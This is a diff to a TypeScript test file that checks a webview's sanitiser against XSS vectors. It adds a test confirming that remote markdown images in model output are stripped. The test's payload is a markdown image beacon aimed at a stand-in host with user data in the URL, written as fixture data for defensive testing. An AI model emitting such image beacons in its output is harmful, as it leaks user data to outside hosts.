@@ -13,6 +13,7 @@ import { XSS_CORPUS, type XssVector } from '../webview/xssCorpus';
 // Page globals used inside page.evaluate (the test project compiles without the DOM library).
 declare const window: { __pwned?: unknown };
 declare const document: {
+  querySelectorAll(selector: string): Iterable<{ getAttribute(name: string): string | null }>;
   getElementById(id: string): { insertAdjacentHTML(position: string, html: string): void; lastElementChild: { remove(): void } | null } | null;
 };
 
@@ -30,6 +31,17 @@ for (const csp of [true, false]) {
         assert.notEqual((await h.page.locator('#vote-winner').innerText()).trim(), '', 'the vector was rendered in the vote');
       });
     }
+
+    it('strips remote images from model output in the sanitiser, the CSP aside (issue 13, finding 10)', async function () {
+      const h = harness();
+      const beacon = '![chart](https://beacon.example/pixel.png?user=1) and ![inline](data:image/png;base64,iVBORw0KGgo=)';
+      await renderVector(h, { id: 0, name: 'remote image beacon', payload: beacon });
+      const sources = await h.page.evaluate(() => [...document.querySelectorAll('img')].map((img) => img.getAttribute('src') ?? ''));
+      assert.ok(sources.every((src) => !src.includes('beacon.example')), `remote sources left: ${sources.join(', ')}`);
+      assert.ok(sources.some((src) => src.startsWith('data:image/png')), 'an inline image is kept');
+      assert.deepEqual(h.events.requests.filter((r) => r.url.includes('beacon.example')), [], 'the beacon was requested');
+      assert.deepEqual((await h.cspViolations()).filter((v) => v.startsWith('img-src')), [], 'the CSP had to stop it');
+    });
 
     it(csp ? 'control: the CSP blocks an inline handler injected without the sanitiser, and the checks see it' : 'control: a payload injected without the sanitiser runs, and the checks see it', async function () {
       const h = harness();
